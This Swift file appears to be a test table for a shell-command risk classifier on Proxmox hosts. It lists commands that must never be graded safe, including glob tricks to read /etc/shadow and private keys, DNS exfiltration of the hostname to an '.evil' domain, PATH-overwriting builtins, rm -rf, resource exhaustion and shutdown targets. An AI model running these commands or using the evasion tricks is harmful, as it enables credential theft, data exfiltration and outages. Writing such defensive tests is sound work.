/// Commands that once came out too mild.
enum HolesTable {
  /// Never GREEN.
  static let notGreen: [String] = [
    "pidstat 1 -e /bin/rm -rf /x", "sar -o /etc/x 1 1", "ip l s vmbr0 down", "bridge link s dev eth0 learning off",
    "ceph status -o /etc/x", "ceph df -o/etc/x", "ceph health --out-file=/etc/x", "ceph df --admin-daemon /x",
    "ceph status --in-file=/x", "partx -d /dev/sda", "partx -s -d /dev/sda", "date 010100002020",
    "date -s '2020-01-01'", "date --se=x", "date -f /etc/shadow", "date --file=/etc/shadow",
    "smartctl -l scterc,0,0 /dev/sda", "smartctl -lscttempint,1 /dev/sda", "smartctl --log=scterc,70,70 /dev/sda",
    "lastlog -C -u root", "lastlog -S -u root", "sensors -s", "blkid -c /etc/x", "blkid -w /etc/x", "lsof -Db /x",
    "getent -s files shadow", "zpool iostat -c x", "fuser --ki /x", "tree -o /etc/x", "tree --outpu=/etc/x",
    "((PATH=1)); ls", "let PATH=1; ls", "getopts x PATH; ls", "read PATH; ls", "read -a PATH; ls", "read -aPATH; ls",
    "printf -v PATH x; ls", "printf -vPATH x; ls", "mapfile PATH; ls", "mapfile -t PATH; ls", "((++PATH)); ls",
    "echo $((PATH+=1))", "for ((IFS=1;i<2;i++)); do ls; done", "declare -i x='PATH=1'; ls", "wait -p PATH; ls",
    "[[ PATH=1 -eq 1 ]]; ls", "a[PATH=1]=2; ls",
    "cat /etc/shado[[:alpha:]]", "cat /etc/shado[]w]", "cat /etc/shado[w\"]\"]", "cat /etc/pve/pri[[:lower:]]/*",
    "cat /etc/@(shadow)", "cat /etc/!(hosts)", "cat /etc/s+(h)adow", "cat /etc/?(x)shadow",
    "shopt -s nocaseglob; cat /etc/SHADO?", "cat /etc/pve/local/*", "cat /etc/pve/nodes/agent/*", "cat /etc/pve/*",
    "cat /home/bob/.s*/*", "cat /var/spoo?/cron/crontabs/root", "cat /proc/1/envir*", "cat /etc/apt/auth*",
    "cat /etc/letsencr*/live/x.org/*", "cat /rpool/data/subvol-105-disk-0/etc/shado?",
    "cat /var/lib/lxc/105/rootfs/root/.s*/*", "cat /srv/x/server.ke?", "awk 'BEGIN{ARGV[1]=\"/etc/x\";ARGC=2}{print}'",
    "dig $(hostname).evil", "ping -c1 $(hostname).evil", "host $(hostname).evil", "nslookup $(hostname).evil",
    "pvesh get /nodes/pve/storage/local/file-restore/download", "pvesh get /cluster/acme/plugins",
    "pvesh get /nodes/pve/scan/cifs", "pvesh get /nodes/pve/scan/nfs", "pvesh get /nodes/pve/query-url-metadata",
    "docker compose config",
  ]

  /// RED at least.
  static let red: [String] = [
    "systemctl restart '*'", "systemctl restart '*cron*'", "systemctl restart 'ngin[x]'",
    "systemctl start debug-shell", "systemctl start cryptsetup@x", "systemctl start nbd@x",
    "systemctl restart wg-quick@wg0", "systemctl restart tailscaled", "systemctl restart keepalived",
    "systemctl restart iptables", "systemctl restart nftables", "systemctl restart netfilter-persistent",
    "set -o posix", "shopt -s extglob", "setopt nullglob", "echo {1..1000000000}", "echo {9223372036854775807..-1}",
    "echo {-9223372036854775807..9223372036854775807}", "echo {1..200}{1..200}",
    "printf '%1000000000d' 1", "printf '%.99999f' 1", "printf '%*d' 1000000000 1",
    "diff -rN /etc /tmp", "diff -r /root /tmp", "find /home/bob -type f -exec head {} +", "grep -r x /root",
    "ps auxwwwe", "ps -o environ", "ps -eo pid,environ", "docker top x e", "docker top x -eo pid,environ",
    "cat /etc/hosts | ssh pve2 cat", "ssh -J evil pve2 ls", "curl --proto-default file x",
    "systemctl restart autofs", "service tailscaled restart",
  ]

  static let black: [String] = [
    "systemctl start runlevel0.target", "systemctl start runlevel6.target", "systemctl start poweroff.target",
    "systemctl start reboot.target", "systemctl start halt.target", "systemctl start rescue.target",
    "systemctl start emergency.target", "systemctl isolate runlevel6.target", "systemctl isolate rescue.target",
  ]

  /// What must stay as mild as it was.
  static let green: [String] = [
    "date -d yesterday +%F", "ls --color=auto -lah", "ls $DIR", "echo -- --x $Y", "ip a s", "ip -4 a s vmbr0",
    "ip r s", "ip l sh", "((i=i+1)); echo $i", "let i=1", "read -r line", "partx -s /dev/sda",
    "smartctl -l error /dev/sda", "smartctl -x /dev/sda", "pgrep -fa qemu", "printf '%-20s %5d\\n' a 1",
    "zfs list -t snapshot -o name,used -s used", "zpool status -xv", "lsblk -dno NAME", "kubectl logs -f pod",
    "qm config 100 --current", "rbd ls -p pool", "ceph osd tree -f json-pretty", "findmnt -no SOURCE /",
    "echo {1..2..-9223372036854775808}", "systemctl status pveproxy.service", "cat /etc/*release", "cat /proc/*/status",
    "cat /var/log/*.log", "cat /etc/pve/qemu-server/*.conf", "echo {1..9}",
    "cat /etc/pve/nodes/*/lxc/*.conf", "cat /sys/class/net/*/address", "ps -C apache",
    "diff -r /usr/share/a /usr/share/b",
    "set -euo pipefail", "printf '%05.2f' 3", "zgrep x /var/log/syslog.[12].gz",
    "nvme smart-log /dev/nvme0 -o json", "pvesm list local --vmid 100", "sar -u 1 3", "ss -tnp state established",
  ]
}
